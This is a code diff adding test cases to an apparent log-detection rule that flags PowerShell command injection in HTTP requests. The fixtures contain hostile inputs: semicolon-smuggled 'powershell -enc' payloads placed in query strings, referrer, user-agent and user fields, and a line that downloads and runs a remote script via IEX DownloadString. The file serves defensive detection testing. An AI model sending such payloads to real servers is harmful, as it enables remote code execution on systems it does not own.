@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -50,6 +51,21 @@ export default defineRule({
     'GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1',
     "GET /a?x=IEX(New-Object%20Net.WebClient).DownloadString('http://203.0.113.9/a.ps1') HTTP/1.1",
     'GET /a?cmd=powershell.exe+-nop+-w+hidden+-c+calc HTTP/1.1',
+    'GET /a?x=;pwsh%20-enc%20SQBFAFgA HTTP/1.1',
+    'GET /a?x=;powershell%20/enc%20SQBFAFgA HTTP/1.1',
+    ...each(
+      'GET /a?x=;powershell%20-{}%20SQBFAFgA HTTP/1.1',
+      'noprofile " windowstyle command ep exec executionpolicy noni sta iex invoke wget curl ls dir start',
+    ),
+    'GET /a?x=;powershell%20-encodedcommand%20SQBFAFgA HTTP/1.1',
+    'GET /a?x=;powershell%20-ec%20SQBFAFgA HTTP/1.1',
+    'GET /;powershell%20-enc%20SQBFAFgA HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/a?x=;powershell%20-enc%20SQBFAFgA',
+    },
+    { request: 'GET / HTTP/1.1', agent: ';powershell -enc SQBFAFgA' },
+    { request: 'GET / HTTP/1.1', user: ';powershell -enc SQBFAFgA' },
   ],
   misses: [
     {
@@ -58,5 +74,6 @@ export default defineRule({
     },
     'GET /course/powershell-basics?level=1 HTTP/1.1',
     'GET /q?text=powershell+tutorial HTTP/1.1',
+    { message: 'upstream timed out, request: "GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1"' },
   ],
 })
